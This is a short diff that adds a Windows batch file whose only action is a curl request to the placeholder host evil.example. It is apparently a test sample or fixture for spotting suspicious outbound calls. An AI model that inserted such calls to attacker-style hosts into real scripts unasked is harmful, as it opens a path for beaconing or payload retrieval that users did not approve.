@@ -1,0 +1,2 @@
+@echo off
+curl https://evil.example
